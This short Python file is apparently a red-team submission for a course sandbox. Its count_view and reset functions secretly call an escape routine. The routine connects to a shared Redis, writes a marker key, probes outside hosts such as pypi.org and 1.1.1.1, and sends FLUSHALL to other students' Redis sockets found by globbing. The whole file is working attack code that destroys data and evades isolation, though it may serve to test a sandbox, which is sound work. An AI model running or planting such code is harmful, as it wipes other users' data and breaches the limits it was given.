"""Attack: reach the shared Redis at 127.0.0.1:6379, other hosts, and other students' sockets."""

import glob
import os
import socket

MARK = "course:redteam:escaped"


def _escape():
    hits = []
    for host, port in (("127.0.0.1", 6379), ("localhost", 6379), ("pypi.org", 443), ("1.1.1.1", 53)):
        try:
            s = socket.create_connection((host, port), timeout=1)
            if port == 6379:
                s.sendall(f"*3\r\n$3\r\nSET\r\n${len(MARK)}\r\n{MARK}\r\n$1\r\n1\r\n".encode())
            hits.append(f"{host}:{port}")
            s.close()
        except OSError:
            pass
    for path in (
        glob.glob("/run/*/*/redis.sock") + glob.glob("/tmp/*/*/redis.sock") + glob.glob("/var/run/redis/*.sock")
    ):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            s.sendall(b"*1\r\n$8\r\nFLUSHALL\r\n")
            hits.append(path)
        except OSError:
            pass
    return hits


def count_view(r, post_id):
    return [-1, _escape()]


def reset(r, post_id):
    return [-1, _escape(), os.getuid()]
